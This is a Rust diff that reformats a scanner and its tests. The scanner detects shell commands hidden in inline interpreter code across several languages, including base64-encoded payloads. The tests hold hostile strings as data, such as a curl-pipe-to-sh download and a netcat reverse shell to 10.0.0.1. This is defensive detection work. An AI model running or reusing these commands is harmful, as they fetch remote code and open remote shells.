@@ -257,7 +257,11 @@ fn scan(lang: Lang, code: &str, via: &str, depth: u8, out: &mut Vec<Payload>) {
                     what,
                     Runs::Shell(literals.into_iter().next().unwrap_or_default()),
                 )),
-                Kind::Command => out.push(Payload::new(Carried::Code, what, Runs::Argv(argv_of(literals)))),
+                Kind::Command => out.push(Payload::new(
+                    Carried::Code,
+                    what,
+                    Runs::Argv(argv_of(literals)),
+                )),
             }
         }
     }
@@ -404,8 +408,10 @@ fn literals(region: &str) -> Vec<String> {
             let to_decoder = BASE64_DECODERS.iter().any(|d| before.ends_with(d));
             let after = region.get(j + open_len..).unwrap_or("").trim_start();
             let buffer_from = before.ends_with("Buffer.from(")
-                && (after.starts_with(",'base64'") || after.starts_with(", 'base64'")
-                    || after.starts_with(",\"base64\"") || after.starts_with(", \"base64\""));
+                && (after.starts_with(",'base64'")
+                    || after.starts_with(", 'base64'")
+                    || after.starts_with(",\"base64\"")
+                    || after.starts_with(", \"base64\""));
             (to_decoder || buffer_from)
                 .then(|| decode_base64(&text))
                 .flatten()
@@ -491,7 +497,8 @@ fn tcl_commands(code: &str, via: &str, out: &mut Vec<Payload>, start: usize) {
             if out.len() - start >= MAX_CODE_PAYLOADS {
                 return;
             }
-            let starts = at == 0 || matches!(code.as_bytes()[at - 1], b' ' | b';' | b'[' | b'\n' | b'{');
+            let starts =
+                at == 0 || matches!(code.as_bytes()[at - 1], b' ' | b';' | b'[' | b'\n' | b'{');
             if !starts || code.as_bytes().get(from) != Some(&b' ') {
                 continue;
             }
@@ -499,7 +506,10 @@ fn tcl_commands(code: &str, via: &str, out: &mut Vec<Payload>, start: usize) {
             let end = rest.find([';', '\n', ']']).unwrap_or(rest.len());
             let words: Vec<String> = rest[..end]
                 .split_ascii_whitespace()
-                .map(|w| w.trim_matches(|c| c == '{' || c == '}' || c == '"').to_string())
+                .map(|w| {
+                    w.trim_matches(|c| c == '{' || c == '}' || c == '"')
+                        .to_string()
+                })
                 .filter(|w| !w.is_empty())
                 .collect();
             if !words.is_empty() {
@@ -544,7 +554,10 @@ mod tests {
     #[test]
     fn python_calls_carry_their_command() {
         assert_eq!(
-            found("python3", "import os; os.system('curl http://x.y/a.sh | sh')"),
+            found(
+                "python3",
+                "import os; os.system('curl http://x.y/a.sh | sh')"
+            ),
             [(
                 "in python3 -c code, os.system".to_string(),
                 shell("curl http://x.y/a.sh | sh")
@@ -560,43 +573,75 @@ mod tests {
         );
         // aWQ= is `id`
         assert_eq!(
-            found("python3", "import os,base64; os.system(base64.b64decode('aWQ=').decode())")[0].1,
+            found(
+                "python3",
+                "import os,base64; os.system(base64.b64decode('aWQ=').decode())"
+            )[0]
+            .1,
             shell("id")
         );
         // exec of decoded code is read again as code: the decoded text runs os.system('id').
         let inner = "import os;os.system('id')";
         let b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==";
-        assert_eq!(decode_base64(b64.as_bytes()).as_deref(), Some(inner.as_bytes()));
         assert_eq!(
-            found("python3", &format!("import base64;exec(base64.b64decode('{b64}'))"))[0].1,
+            decode_base64(b64.as_bytes()).as_deref(),
+            Some(inner.as_bytes())
+        );
+        assert_eq!(
+            found(
+                "python3",
+                &format!("import base64;exec(base64.b64decode('{b64}'))")
+            )[0]
+            .1,
             shell("id")
         );
         assert!(found("python3", "import os; print(os.getcwd())").is_empty());
-        assert!(found("python3", "print('os.system(\"x\")')").iter().all(|(_, r)| *r == shell("x")));
+        assert!(found("python3", "print('os.system(\"x\")')")
+            .iter()
+            .all(|(_, r)| *r == shell("x")));
     }
 
     #[test]
     fn other_languages() {
         assert_eq!(
-            found("node", "require('child_process').exec('nc 10.0.0.1 4444 -e /bin/sh')")[0].1,
+            found(
+                "node",
+                "require('child_process').exec('nc 10.0.0.1 4444 -e /bin/sh')"
+            )[0]
+            .1,
             shell("nc 10.0.0.1 4444 -e /bin/sh")
         );
         assert_eq!(
-            found("node", "require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})")[0].1,
+            found(
+                "node",
+                "require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})"
+            )[0]
+            .1,
             shell("/bin/sh")
         );
         assert_eq!(found("perl", "exec \"/bin/sh\";")[0].1, shell("/bin/sh"));
         assert_eq!(found("perl", "print `id`")[0].1, shell("id"));
         assert_eq!(found("ruby", "exec '/bin/sh'")[0].1, shell("/bin/sh"));
-        assert_eq!(found("php", "system('/bin/sh -i');")[0].1, shell("/bin/sh -i"));
+        assert_eq!(
+            found("php", "system('/bin/sh -i');")[0].1,
+            shell("/bin/sh -i")
+        );
         assert_eq!(found("lua", "os.execute('/bin/sh')")[0].1, shell("/bin/sh"));
-        assert_eq!(found("awk", "BEGIN {system(\"/bin/sh\")}")[0].1, shell("/bin/sh"));
-        assert_eq!(found("awk", "BEGIN {\"id\" | getline x; print x}")[0].1, shell("id"));
+        assert_eq!(
+            found("awk", "BEGIN {system(\"/bin/sh\")}")[0].1,
+            shell("/bin/sh")
+        );
+        assert_eq!(
+            found("awk", "BEGIN {\"id\" | getline x; print x}")[0].1,
+            shell("id")
+        );
         assert_eq!(
             found("expect", "spawn /bin/sh;interact")[0].1,
             argv(&["/bin/sh"])
         );
-        assert!(found("awk", "{print $1 | \"sort\"}").iter().all(|(_, r)| *r == shell("sort")));
+        assert!(found("awk", "{print $1 | \"sort\"}")
+            .iter()
+            .all(|(_, r)| *r == shell("sort")));
         assert!(found("perl", "s/execute/run/g").is_empty());
         assert!(found("ruby", "puts 'hello'").is_empty());
     }
@@ -608,7 +653,10 @@ mod tests {
             .map(Arg::Borrowed)
             .collect();
         assert_eq!(inline_code("awk", &args), Some("{print $1}"));
-        let args: Vec<Arg> = ["-f", "prog.awk", "x"].into_iter().map(Arg::Borrowed).collect();
+        let args: Vec<Arg> = ["-f", "prog.awk", "x"]
+            .into_iter()
+            .map(Arg::Borrowed)
+            .collect();
         assert_eq!(inline_code("gawk", &args), None);
     }
 }
